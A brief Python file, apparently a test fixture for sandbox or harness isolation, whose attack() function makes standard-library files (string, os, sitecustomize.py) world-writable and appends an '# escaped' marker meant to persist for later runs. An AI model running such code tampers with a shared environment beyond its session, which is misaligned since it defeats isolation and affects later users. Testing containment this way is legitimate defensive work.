"""Changes the standard library for those who come next."""
# ruff: noqa

import os, string


def attack():
    for path in (string.__file__, os.__file__, os.path.dirname(os.__file__) + "/sitecustomize.py"):
        try:
            os.chmod(path, 0o777)
        except OSError:
            pass
        with open(path, "a") as file:
            file.write("\n# escaped\n")
    return FACTS["won"]
